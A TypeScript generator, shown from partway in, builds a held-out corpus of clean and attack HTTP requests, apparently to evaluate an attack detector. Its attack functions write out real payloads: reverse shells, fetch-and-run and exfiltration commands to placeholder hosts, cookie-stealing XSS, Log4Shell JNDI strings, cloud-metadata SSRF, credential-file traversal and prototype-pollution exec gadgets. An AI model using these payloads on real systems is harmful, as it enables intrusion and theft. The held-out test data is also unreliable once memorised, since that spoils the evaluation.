    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-var',
    'query-string',
    'merge-patch',
    'jsonapi',
    'form',
    'ndjson',
    'json-patch-value',
    'multipart-field',
    'search-param',
    'header-referer',
  ]);
}

function commandAttacks(): Atk[] {
  const payloads = [
    '; cat /etc/passwd',
    '| nc 203.0.113.50 4444 -e /bin/sh',
    '$(curl -s http://203.0.113.50/x.sh | sh)',
    '`id`',
    '&& wget http://203.0.113.50/bot -O /tmp/b && chmod +x /tmp/b && /tmp/b',
    'x;${IFS}cat${IFS}/etc/shadow',
    '|| bash -i >& /dev/tcp/203.0.113.50/443 0>&1',
    '\nid\n',
    "'; python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.50\",53));os.dup2(s.fileno(),0)' #",
    '; /bin/busybox telnetd -l /bin/sh -p 9999',
    '$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)',
    '& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    '| curl -d @/etc/passwd https://exfil.example/c',
    ';{cat,/etc/passwd}',
    "a$(printf '\\x69\\x64')",
  ];
  const atks = fromPlaces(payloads, [
    'json-nested',
    'json-array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-var',
    'query-string',
    'merge-patch',
    'form',
    'ndjson',
    'jsonapi',
    'json-patch-value',
  ]);
  atks[24] = {
    technique: 'device-ping-host',
    draft: jsonReq('POST', `/hub/api/v1/devices/${pick(DEVICES)}/diagnostics`, {
      action: 'ping',
      host: '192.168.1.20; cat /etc/passwd',
      count: 3,
    }),
  };
  atks[25] = {
    technique: 'firmware-url-arg',
    draft: jsonReq('POST', '/hub/api/v1/firmware/fetch', {
      url: 'https://fw.homenest.example/2024.11.bin`reboot`',
      verify: true,
    }),
  };
  atks[26] = {
    technique: 'filename-multipart',
    draft: multipart(
      '/permits/api/v1/documents',
      { kind: 'photo' },
      { field: 'file', name: 'site.jpg;curl 203.0.113.50|sh', type: 'image/jpeg', content: 'JFIF' },
    ),
  };
  atks[27] = {
    technique: 'header-user-agent',
    draft: {
      method: 'GET',
      path: '/transit/v3/trips',
      headers: { ...headers(), 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' },
      body: '',
    },
  };
  atks[28] = {
    technique: 'rule-action-exec',
    draft: jsonReq('POST', '/hub/api/v1/rules', {
      name: 'Night',
      actions: [{ type: 'shell', cmd: 'sleep 1; rm -rf / --no-preserve-root' }],
    }),
  };
  atks[29] = {
    technique: 'url-encoded-newline-param',
    draft: {
      method: 'GET',
      path: '/pharmacy/api/reports/export?format=csv%0Acat%20/etc/passwd',
      headers: headers(),
      body: '',
    },
  };
  return atks;
}

function xssAttacks(): Atk[] {
  const payloads = [
    '<script>fetch("https://exfil.example/c?"+document.cookie)</script>',
    '<img src=x onerror=alert(document.domain)>',
    '<svg/onload=alert(1)>',
    '"><iframe srcdoc="<script>parent.location=\'//evil.example\'</script>">',
    'javascript:alert(document.cookie)',
    '<details open ontoggle=eval(atob("YWxlcnQoMSk="))>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<body onload=import("//evil.example/x.js")>',
    '<ScRiPt>alert`1`</sCrIpT>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="javascript:alert(1)">',
    '</textarea><script>new Image().src="//evil.example/"+localStorage.token</script>',
  ];
  const atks = fromPlaces(payloads, [
    'json-nested',
    'json-array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-var',
    'query-string',
    'merge-patch',
    'jsonapi',
    'form',
    'ndjson',
    'json-patch-value',
    'multipart-field',
  ]);
  atks[26] = {
    technique: 'review-title',
    draft: jsonReq('POST', `/api/v2/shop/products/${pick(WINES).sku}/reviews`, {
      rating: 5,
      title: 'Great <img src=1 onerror=alert(1)>',
      tastingNote: pick(TASTING),
    }),
  };
  atks[27] = {
    technique: 'object-key',
    draft: jsonReq('POST', '/hub/api/v1/scenes', { name: 'Party', labels: { '<svg onload=alert(1)>': 'x' } }),
  };
  atks[28] = {
    technique: 'double-url-encoded-query',
    draft: {
      method: 'GET',
      path: '/api/v2/shop/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
      headers: headers(),
      body: '',
    },
  };
  atks[29] = {
    technique: 'header-referer',
    draft: PLACE['header-referer']?.('https://cellardoor.example/"><script>alert(1)</script>') ?? get('/'),
  };
  return atks;
}

function log4shellAttacks(): Atk[] {
  const payloads = [
    '${jndi:ldap://203.0.113.50:1389/a}',
    '${jndi:rmi://evil.example/Exploit}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/x}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/o}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}',
    '${jndi:ldaps://evil.example:636/${sys:java.version}}',
    '${${upper:j}ndi:ldap://evil.example/u}',
    '${j${k8s:k5:-ND}i:ldap://evil.example/k}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/y}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}",
    '${jndi:iiop://evil.example/z}',
  ];
  const atks: Atk[] = [];
  const hdrs = [
    'user-agent',
    'x-forwarded-for',
    'x-api-version',
    'referer',
    'x-request-id',
    'accept-language',
    'authorization',
    'cookie',
  ];
  for (let i = 0; i < 12; i++) {
    const h = hdrs[i % hdrs.length] ?? 'user-agent';
    const p = payloads[i % payloads.length] ?? '';
    const value = h === 'authorization' ? `Bearer ${p}` : h === 'cookie' ? `session=${p}` : p;
    atks.push({
      technique: `header-${h}`,
      draft: {
        method: 'GET',
        path: pick(['/transit/v3/trips?from=Halden', '/hub/api/v1/scenes', '/api/v2/shop/products?page=2']),
        headers: { ...headers(), [h]: value },
        body: '',
      },
    });
  }
  const places = [
    'json-nested',
    'json-array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-var',
    'query-string',
    'merge-patch',
    'form',
    'ndjson',
    'jsonapi',
    'json-patch-value',
    'search-param',
    'multipart-field',
  ];
  for (let i = 0; i < 18; i++) {
    const place = places[i % places.length] ?? 'json-nested';
    const fn = PLACE[place];
    if (!fn) throw new Error(place);
    atks.push({ technique: place, draft: fn(payloads[(i + 3) % payloads.length] ?? '') });
  }
  return atks;
}

function ssrfAttacks(): Atk[] {
  const targets = [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:127.0.0.1]:8080/admin',
    'http://2130706433/',
    'http://0x7f000001:6379/',
    'gopher://127.0.0.1:6379/_SET%20pwn%201%0D%0ASAVE%0D%0A',
    'file:///etc/passwd',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'http://0177.0.0.1/server-status',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'dict://127.0.0.1:11211/stats',
    'http://localhost%2523@cellardoor.example/',
    'http://100.100.100.200/latest/meta-data/',
    'http://127.1:2375/containers/json',
    'https://cellardoor.example@169.254.169.254/latest/user-data',
  ];
  const out: Atk[] = [];
  const shapes: [string, (u: string) => Draft][] = [
    [
      'webhook-url',
      (u) =>
        jsonReq('POST', '/hub/api/v1/integrations/webhooks', {
          name: 'Notify phone',
          url: u,
          events: ['scene.run', 'leak.detected'],
        }),
    ],
    [
      'image-url-import',
      (u) => jsonReq('POST', '/api/v2/shop/products/import-image', { sku: pick(WINES).sku, imageUrl: u }),
    ],
    [
      'callback-nested',
      (u) =>
        jsonReq('POST', '/jobs/api/v1/jobs', {
          title: 'Manual',
          pair: 'en>de',
          delivery: { method: 'webhook', callback: { url: u, retries: 3 } },
        }),
    ],
    [
      'source-file-url-array',
      (u) =>
        jsonReq('POST', `/jobs/api/v1/jobs/${int(10000, 99999)}/source-files/remote`, {
          files: [{ url: 'https://files.lingobridge.example/a.docx' }, { url: u }],
        }),
    ],
    [
      'graphql-var',
      (u) =>
        gqlPost('mutation Feed($url: URL!) { subscribeCalendarFeed(url: $url) { id } }', { url: u }, 'Feed'),
    ],
    ['query-string', (u) => get('/permits/api/v1/maps/tile-proxy', { src: u, z: 14 })],
    [
      'unicode-escape',
      (u) => ({
        method: 'POST',
        path: '/grants/v1/proposals/import',
        headers: headers({ ct: 'application/json' }),
        body: uEscapeJson({ sourceUrl: u, format: 'docx' }),
      }),
    ],
    [
      'json-in-string',
      (u) =>
        jsonReq('POST', '/hub/api/v1/devices/register', {
          model: 'camera',
          config: JSON.stringify({ streamUrl: u, codec: 'h264' }),
        }),
    ],
    [
      'base64-config',
      (u) =>
        jsonReq('POST', '/hub/api/v1/backup/restore', {
          archive: b64(JSON.stringify({ cloudSync: { endpoint: u } })),
          encoding: 'base64',
        }),
    ],
    [
      'merge-patch-avatar',
      (u) =>
        jsonReq(
          'PATCH',
          `/jobs/api/v1/translators/${randStr(10)}`,
          { avatarUrl: u },
          'application/merge-patch+json',
        ),
    ],
    ['form-feed-url', (u) => form('/transit/v3/partners/gtfs-feed', { feed_url: u, operator: 'BayFerries' })],
    [
      'header-x-forwarded-host',
      (u) => ({
        method: 'GET',
        path: '/api/v2/shop/password-reset?email=zoe_w%40example.co.uk',
        headers: { ...headers(), 'x-forwarded-host': u.replace(/^\w+:\/\//, '').split('/')[0] ?? u },
        body: '',
      }),
    ],
  ];
  for (let i = 0; i < 30; i++) {
    const [technique, fn] = shapes[i % shapes.length] ?? shapes[0] ?? ['x', (u: string) => get(u)];
    out.push({ technique, draft: fn(targets[i % targets.length] ?? '') });
  }
  return out;
}

function traversalAttacks(): Atk[] {
  const out: Atk[] = [];
  const add = (technique: string, draft: Draft): void => {
    out.push({ technique, draft });
  };
  const pathGet = (technique: string, p: string): void =>
    add(technique, { method: 'GET', path: p, headers: headers(), body: '' });
  pathGet('url-path-encoded-slash', '/permits/api/v1/documents/..%2f..%2f..%2fetc%2fpasswd');
  pathGet('url-path-double-encoded', '/jobs/api/v1/files/%252e%252e%252f%252e%252e%252fetc%252fshadow');
  pathGet('url-path-overlong-utf8', '/camp/api/documents/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd');
  pathGet('query-file-param', '/pharmacy/api/reports/download?file=../../../../etc/passwd');
  pathGet('query-nested-dots', '/grants/v1/attachments?path=....//....//....//etc/passwd');
  pathGet(
    'query-backslash-windows',
    `/permits/api/v1/export?template=${encodeURIComponent('..\\..\\..\\windows\\win.ini')}`,
  );
  pathGet('query-null-byte', '/api/v2/shop/images?name=../../../etc/passwd%00.jpg');
  pathGet(
    'query-absolute-proc',
    `/hub/api/v1/logs/download?file=${encodeURIComponent('/proc/self/environ')}`,
  );
  pathGet('url-path-dot-segments-semicolon', '/transit/v3/static/..;/..;/..;/WEB-INF/web.xml');
  pathGet('url-path-utf16', '/jobs/api/v1/files/%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd');
  add(
    'json-nested-filename',
    jsonReq('POST', '/jobs/api/v1/deliveries', {
      job: int(10000, 99999),
      files: { target: { name: '../../../../var/www/html/shell.php', lang: 'de' } },
    }),
  );
  add(
    'json-array-attachment',
    jsonReq('POST', '/grants/v1/proposals/GR-2026-101/attachments/link', {
      attachments: ['cv.pdf', '../../../../../etc/passwd'],
    }),
  );
  add('unicode-escape-dots', {
    method: 'POST',
    path: '/hub/api/v1/backup/download',
    headers: headers({ ct: 'application/json' }),
    body: '{"file":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}',
  });
  add(
    'json-in-string-path',
    jsonReq('POST', '/hub/api/v1/integrations/webhook-test', {
      provider: 'ifttt',
      payload: JSON.stringify({ template: '../../../../root/.ssh/id_rsa' }),
    }),
  );
  add(
    'base64-path',
    jsonReq('POST', '/pharmacy/api/reports/render', {
      templateB64: b64('../../../../etc/shadow'),
      format: 'pdf',
    }),
  );
  add(
    'graphql-var-path',
    gqlPost(
      'query Doc($path: String!) { document(path: $path) { content } }',
      { path: '..%2F..%2F..%2Fetc%2Fpasswd' },
      'Doc',
    ),
  );
  add(
    'merge-patch-avatar-path',
    jsonReq(
      'PATCH',
      `/camp/api/campers/${uuid()}`,
      { photo: '../../../../../../proc/self/cwd/config/secrets.json' },
      'application/merge-patch+json',
    ),
  );
  add(
    'json-patch-from',
    jsonReq(
      'PATCH',
      `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}`,
      [
        {
          op: 'add',
          path: '/documents/-',
          value: { file: '..\\..\\..\\..\\windows\\system32\\config\\SAM' },
        },
      ],
      'application/json-patch+json',
    ),
  );
  add(
    'multipart-filename',
    multipart(
      '/permits/api/v1/documents',
      { kind: 'site-plan' },
      {
        field: 'file',
        name: '../../../../etc/cron.d/pwn',
        type: 'text/plain',
        content: '* * * * * root curl 203.0.113.50|sh',
      },
    ),
  );
  add(
    'multipart-filename-encoded',
    multipart(
      '/jobs/api/v1/jobs/55123/source-files',
      { pair: 'en>de' },
      { field: 'source', name: '..%2F..%2F..%2Fapp%2F.env', type: 'text/plain', content: 'x' },
    ),
  );
  add(
    'form-template-param',
    form('/permits/api/v1/letters/preview', { template: '../../../../etc/passwd', permit: 'BP-2026-00012' }),
  );
  add(
    'ndjson-path',
    ndjson('/hub/api/v1/logs/ingest', [
      { level: 'info', file: 'hub.log' },
      { level: 'info', file: '../../../../etc/hosts' },
    ]),
  );
  add(
    'jsonapi-attr-path',
    jsonReq(
      'POST',
      '/jobs/api/v1/bids',
      jsonapiDoc('bids', { rate: 0.1, portfolioFile: '/../../../../../etc/passwd' }),
      'application/vnd.api+json',
    ),
  );
  add('header-x-original-url', {
    method: 'GET',
    path: '/api/v2/shop/products',
    headers: { ...headers(), 'x-original-url': '/../../../../etc/passwd' },
    body: '',
  });
  add(
    'json-nested-mixed-slashes',
    jsonReq('POST', '/pharmacy/api/imports/run', { source: { dir: '..//..\\..//..\\etc', file: 'passwd' } }),
  );
  add('query-encoded-backslash', {
    method: 'GET',
    path: '/grants/v1/attachments?path=..%5c..%5c..%5cwindows%5cwin.ini',
    headers: headers(),
    body: '',
  });
  add('query-file-scheme', get('/permits/api/v1/export', { template: 'file:///../../../etc/passwd' }));
  add(
    'json-nested-java',
    jsonReq('POST', '/transit/v3/reports', {
      type: 'timetable',
      layout: '../../WEB-INF/classes/application.properties',
    }),
  );
  pathGet('url-path-dots-mixed-case', '/hub/api/v1/files/%2E%2E/%2e%2E/%2E%2e/etc/passwd');
  add(
    'search-param-dots',
    get('/jobs/api/v1/search', { q: 'glossary', export: '../../../../home/app/.aws/credentials' }),
  );
  return out;
}

function protoAttacks(): Atk[] {
  const out: Atk[] = [];
  const add = (technique: string, draft: Draft): void => {
    out.push({ technique, draft });
  };
  const raw = (method: string, path: string, body: string, ct = 'application/json'): Draft => ({
    method,
    path,
    headers: headers({ ct }),
    body,
  });
  add(
    'proto-top-level',
    raw(
      'POST',
      '/api/v2/shop/cart/items',
      '{"sku":"WN-MOS-2022-075","quantity":1,"__proto__":{"isAdmin":true}}',
    ),
  );
  add(
    'proto-nested',
    raw(
      'POST',
      '/camp/api/registrations',
      '{"session":"Tennis Academy","camper":{"firstName":"Liam","__proto__":{"role":"staff"}}}',
    ),
  );
  add(
    'constructor-prototype',
    jsonReq('POST', '/hub/api/v1/scenes', {
      name: 'Evening',
      constructor: { prototype: { shell: '/bin/sh', NODE_OPTIONS: '--require /proc/self/environ' } },
    }),
  );
  add(
    'proto-in-array',
    raw(
      'POST',
      '/transit/v3/bookings',
      '{"tripId":"TR-A1B2C3","passengers":[{"type":"adult","name":"Bjørn"},{"__proto__":{"discount":100}}]}',
    ),
  );
  add(
    'unicode-escape-proto-key',
    raw(
      'POST',
      '/pharmacy/api/dispense',
      '{"orderId":"RX-1234567","\\u005f\\u005fproto\\u005f\\u005f":{"verified":true}}',
    ),
  );
  add(
    'unicode-escape-constructor',
    raw(
      'POST',
      '/grants/v1/proposals',
      '{"title":"PFAS","\\u0063onstructor":{"\\u0070rototype":{"approved":true}}}',
    ),
  );
  add(
    'merge-patch-proto',
    raw(
      'PATCH',
      `/api/v2/shop/orders/${uuid()}`,
      '{"notes":"leave at door","__proto__":{"paid":true}}',
      'application/merge-patch+json',
    ),
  );
  add(
    'json-patch-path-proto',
    jsonReq(
      'PATCH',
      `/hub/api/v1/rules/${randStr(6)}`,
      [{ op: 'add', path: '/__proto__/polluted', value: 'yes' }],
      'application/json-patch+json',
    ),
  );
  add(
    'json-patch-constructor',
    jsonReq(
      'PATCH',
      `/permits/api/v1/applications/BP-2026-${int(10000, 99999)}`,
      [{ op: 'replace', path: '/constructor/prototype/isInspector', value: true }],
      'application/json-patch+json',
    ),
  );
  add(
    'query-bracket-proto',
    get('/api/v2/shop/products', { '__proto__[isAdmin]': 'true', region: 'Rioja Alta' }),
  );
  add('query-dot-proto', get('/jobs/api/v1/jobs', { '__proto__.role': 'admin', pair: 'en>de' }));
  add(
    'query-constructor-bracket',
    get('/camp/api/sessions', { 'constructor[prototype][admin]': '1', age: 9 }),
  );
  add('form-proto', form('/permits/api/v1/contact', { subject: 'hi', '__proto__[status]': 'approved' }));
  add(
    'form-constructor',
    form('/api/v2/shop/newsletter', {
      email: 'a@example.com',
      'constructor[prototype][outputFunctionName]':
        'x;process.mainModule.require("child_process").execSync("id");x',
    }),
  );
  add(
    'json-in-string-proto',
    jsonReq('POST', '/hub/api/v1/integrations/webhook-test', {
      provider: 'ifttt',
      payload: '{"value1":"x","__proto__":{"polluted":"yes"}}',
    }),
  );
  add(
    'base64-proto',
    jsonReq('POST', '/hub/api/v1/backup/restore', {
      encoding: 'base64',
      archive: b64('{"settings":{"__proto__":{"allowRemoteShell":true}}}'),
    }),
  );
  add('graphql-var-proto', {
    method: 'POST',
    path: '/graphql',
    headers: headers({ ct: 'application/json' }),
    body: '{"operationName":"Upd","query":"mutation Upd($p: JSON) { updatePreferences(prefs: $p) { ok } }","variables":{"p":{"__proto__":{"isAdmin":true}}}}',
  });
  add(
    'jsonapi-attributes-proto',
    raw(
      'POST',
      '/jobs/api/v1/bids',
      '{"data":{"type":"bids","attributes":{"rate":0.1,"__proto__":{"approved":true}}}}',
      'application/vnd.api+json',
    ),
  );
  add(
    'ndjson-proto',
    raw(
      'POST',
      '/hub/api/v1/telemetry/batch',
      '{"device":"thermostat-hall","value":21}\n{"__proto__":{"debug":true}}\n',
      'application/x-ndjson',
    ),
  );
  add(
    'deep-nested-proto',
    raw(
      'POST',
      '/grants/v1/proposals/GR-2026-321/budget',
      '{"lines":[{"category":"travel","meta":{"tags":{"__proto__":{"overheadRate":0}}}}]}',
    ),
  );
  add('dotted-key-proto', jsonReq('POST', '/hub/api/v1/settings', { 'notifications.__proto__.admin': true }));
  add(
    'dotted-key-constructor',
    jsonReq('PUT', '/camp/api/settings', { 'constructor.prototype.isStaff': true }),
  );
  add(
    'proto-ejs-gadget',
    raw(
      'POST',
      '/permits/api/v1/letters/preview',
      '{"permit":"BP-2026-00001","__proto__":{"client":true,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')"}}',
    ),
  );
  add(
    'proto-json-spaces',
    raw('POST', '/transit/v3/support', '{ "topic" : "refund" , "__proto__" : { "refundApproved" : true } }'),
  );
  add(
    'proto-duplicate-key',
    raw('POST', '/api/v2/shop/customers', '{"name":"Chen Wei","__proto__":{},"__proto__":{"role":"admin"}}'),
  );
  add(
    'multipart-field-proto',
    multipart(
      '/camp/api/documents',
      { camper: uuid(), '__proto__[verified]': 'true' },
      { field: 'upload', name: 'x.txt', type: 'text/plain', content: 'x' },
    ),
  );
  add('query-json-proto', get('/hub/api/v1/logs', { filter: '{"__proto__":{"level":"debug"}}' }));
  add('prototype-key-array-index', get('/pharmacy/api/inventory', { 'a[__proto__][polluted]': '1' }));
  add('header-json-proto', {
    method: 'POST',
    path: '/hub/api/v1/scenes/run',
    headers: {
      ...headers({ ct: 'application/json' }),
      'x-scene-options': '{"__proto__":{"bypassAuth":true}}',
    },
    body: '{"scene":"away"}',
  });
  add(
    'constructor-nested-array',
    raw('POST', '/jobs/api/v1/jobs', '{"title":"x","tags":[{"constructor":{"prototype":{"paid":true}}}]}'),
  );
  return out;
}

function buildAttacks(): CorpusRequest[] {
  const families: [string, () => Atk[]][] = [
    ['sql', sqlAttacks],
    ['nosql', nosqlAttacks],
    ['template', templateAttacks],
    ['command', commandAttacks],
    ['xss', xssAttacks],
    ['log4shell', log4shellAttacks],
    ['ssrf', ssrfAttacks],
    ['path-traversal', traversalAttacks],
    ['prototype-pollution', protoAttacks],
  ];
  const out: CorpusRequest[] = [];
  for (const [family, gen] of families) {
    const atks = gen();
    if (atks.length !== 30) throw new Error(`${family}: expected 30 attacks, got ${atks.length}`);
    for (const a of atks) {
      out.push({
        id: `h26a${out.length + 1}`,
        kind: 'attack',
        family,
        technique: a.technique,
        method: a.draft.method,
        path: a.draft.path,
        headers: a.draft.headers,
        body: a.draft.body,
      });
    }
  }
  return out;
}

/** Held-out corpus 26: clean traffic and attacks over eight new domains, generated deterministically. */
export const heldout26: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: buildClean(),
  attacks: buildAttacks(),
};

function countBy(xs: readonly CorpusRequest[], key: (r: CorpusRequest) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) out[key(x)] = (out[key(x)] ?? 0) + 1;
  return out;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout26.json'), `${JSON.stringify(heldout26.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout26.json'), `${JSON.stringify(heldout26.attacks, null, 2)}\n`);
  console.log(
    `clean: ${heldout26.clean.length}`,
    countBy(heldout26.clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${heldout26.attacks.length}`,
    countBy(heldout26.attacks, (r) => r.family ?? '?'),
  );
}
